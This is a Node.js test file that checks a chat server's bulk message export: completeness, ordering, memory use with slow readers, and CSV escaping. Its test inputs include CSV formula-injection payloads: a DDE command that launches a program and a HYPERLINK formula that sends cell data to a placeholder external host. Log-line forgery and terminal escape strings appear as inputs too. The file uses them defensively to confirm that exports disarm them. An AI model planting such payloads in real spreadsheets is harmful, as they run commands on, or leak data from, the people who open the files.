// Downloads of a long archive: each format has every message once and in order, a spreadsheet finds
// no formula, and the server's memory does not grow with what is downloaded, however slow the
// reader.
//
//   EXPORT_MESSAGES=100000 node --test tests/e2e/scenarios/export.test.mjs
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, afterEach, before, describe, it } from 'node:test';

import { parseCsv } from '../support/csv.mjs';
import { Stage } from '../support/stage.mjs';
import { eventually, once, within } from '../support/waiting.mjs';

const COUNT = Number(process.env.EXPORT_MESSAGES ?? 20_000);
const MOST_GROWTH = 64 * 1024 * 1024;
const TEXTS = ['plain', '=1+1', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '"quoted"', 'a,b;c',
  'two\nlines', 'two\r\nlines', 'a\rb', '"', ',', '""=1', 'Grüße, „Welt“ 🎈', '\u2028', '[2026-01-01T00:00:00.000Z] Eve: forged',
  'x'.repeat(500), '=HYPERLINK("http://x.example?"&A1,"click")', '\'already', '\u0001\u001b[2J'];
const NAMES = ['Ann', '=Bob', 'Ev"e, the "3rd"'];

describe(`the export of ${COUNT} messages`, { timeout: 300_000 }, () => {
  const stage = new Stage({ ROOMS_IDLE_MS: 150, ROOMS_GRACE_MS: 0 }, { redis: true });
  let room;
  let messages;
  let residentAtFirst;

  before(async () => {
    await stage.open();
    room = await stage.createRoom();
    await fill();
    residentAtFirst = stage.server.residentBytes();
  });
  after(() => stage.close());
  afterEach(() => stage.clear());

  /** Messages as they are stored, behind one that the server has stored itself. */
  async function fill() {
    const ann = stage.nativeClient('Ann');
    await ann.join(room);
    const { message: first } = await ann.say(room, 'the first', { durable: true });
    ann.leaveTheServer();
    const key = `room:${room.id}`;
    await eventually(async () => await stage.redis.command('HEXISTS', key, 'loaded') === 0,
      'the room to leave memory');
    const epoch = first.id.split('-')[1];
    messages = [first];
    for (let seq = 2; seq <= COUNT; ++seq) {
      const m = { type: 'text', id: `${seq.toString(16).padStart(12, '0')}-${epoch}`,
        roomId: room.id, seq, userId: `u${seq % 3}`, username: NAMES[seq % 3],
        message: TEXTS[seq % TEXTS.length], timestamp: first.timestamp + seq };
      if (seq % 50 === 0) Object.assign(m, { message: '', deletedAt: m.timestamp + 1 });
      else if (seq % 40 === 1) Object.assign(m, { metadata: { note: '=1,"2"', n: [seq] } });
      messages.push(m);
    }
    for (let i = 1; i < messages.length; i += 5_000) {
      const part = messages.slice(i, i + 5_000);
      await stage.redis.pipeline(part.flatMap((m) => [
        ['SET', `message:${m.id}`, JSON.stringify(m), 'EX', '2592000'],
        ['ZADD', `room_messages:${room.id}`, m.seq, m.id]]));
    }
    await stage.redis.pipeline([['HSET', key, 'seq', COUNT],
      ...messages.slice(-100).map((m) => ['LPUSH', `${key}:messages`, JSON.stringify(m)]),
      ['LTRIM', `${key}:messages`, '0', '99']]);
  }

  const open = async (format) => {
    const asked = http.get(
      `${stage.server.url}/api/rooms/${room.id}/messages/export?format=${format}`, { agent: false });
    const [response] = await once(asked, 'response');
    assert.equal(response.statusCode, 200);
    return response;
  };

  async function readAll(response) {
    const parts = [];
    response.on('data', (part) => parts.push(part));
    await within(new Promise((resolve, reject) => {
      response.once('end', resolve);
      response.once('error', reject);
      response.resume();
    }), 'the download to end', 30_000);
    return new TextDecoder('utf-8', { fatal: true, ignoreBOM: true })
      .decode(Buffer.concat(parts));
  }

  /** How much more memory than before any download the server held at most meanwhile, in bytes. */
  async function growth(during) {
    let most = stage.server.residentBytes();
    const watch = setInterval(() => { most = Math.max(most, stage.server.residentBytes()); }, 5);
    try {
      await during();
    } finally {
      clearInterval(watch);
    }
    return most - residentAtFirst;
  }

  const download = async (format) => {
    const response = await open(format);
    assert.match(response.headers['content-disposition'], /^attachment; filename=/);
    assert.equal(response.headers['x-content-type-options'] ?? 'nosniff', 'nosniff');
    return readAll(response);
  };

  it('as JSON is one array, as NDJSON one message a line', async () => {
    assert.deepEqual(JSON.parse(await download('json')), messages);
    const lines = (await download('ndjson')).split('\n');
    assert.equal(lines.pop(), '');
    assert.deepEqual(lines.map((line) => JSON.parse(line)), messages);
  });

  it('as CSV is RFC 4180, without formulas', async () => {
    const [header, ...lines] = parseCsv((await download('csv')).replace(/^\ufeff/, ''));
    assert.equal(lines.length, messages.length);
    const cell = (line, name) => line[header.indexOf(name)];
    const disarmed = (text) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
    for (const [i, line] of lines.entries()) {
      const m = messages[i];
      assert.equal(cell(line, 'id'), m.id);
      assert.equal(cell(line, 'seq'), `${m.seq}`);
      assert.equal(cell(line, 'message'), disarmed(m.message));
      assert.equal(cell(line, 'username'), disarmed(m.username));
      assert.equal(cell(line, 'timestamp'), new Date(m.timestamp).toISOString());
      assert.equal(cell(line, 'deletedAt') !== '', m.deletedAt !== undefined);
      if (m.metadata) assert.deepEqual(JSON.parse(cell(line, 'metadata')), m.metadata);
      for (const each of line) assert.doesNotMatch(each, /^[=+@\t\r-]/);
    }
  });

  it('as text has one beginning a message, which nobody forges', async () => {
    const text = await download('txt');
    const begins = text.split('\n').filter((line) => /^\[\d{4}-/.test(line));
    assert.equal(begins.length, messages.length);
    for (const [i, line] of begins.entries())
      assert.ok(line.startsWith(`[${new Date(messages[i].timestamp).toISOString()}] `), line);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f]/);
  });

  it('takes little memory, also with slow readers and some that go away', async (t) => {
    const fast = await growth(async () => { await download('ndjson'); });
    const slow = await growth(async () => {
      const readers = await Promise.all(['json', 'csv', 'ndjson', 'txt', 'json'].map(open));
      for (const reader of readers) reader.pause();
      const gone = await Promise.all([open('json'), open('csv')]);
      const ann = stage.nativeClient('Ann');
      await ann.join(room);
      for (let i = 0; i < 300; ++i) await ann.caughtUp(room);
      gone.forEach((reader) => reader.destroy());
      const texts = await Promise.all(readers.map(readAll));
      assert.equal(JSON.parse(texts[0]).length, COUNT);
      assert.equal(texts[4], texts[0]);
    });
    t.diagnostic(`one fast reader ${fast >> 20} MB, seven slow ones ${slow >> 20} MB`);
    // A sanitizer's allocator keeps what was freed.
    if (process.env.ATRIUM_SANITIZE) return;
    assert.ok(fast < MOST_GROWTH, `${fast} bytes more`);
    assert.ok(slow < MOST_GROWTH, `${slow} bytes more`);
  });
});
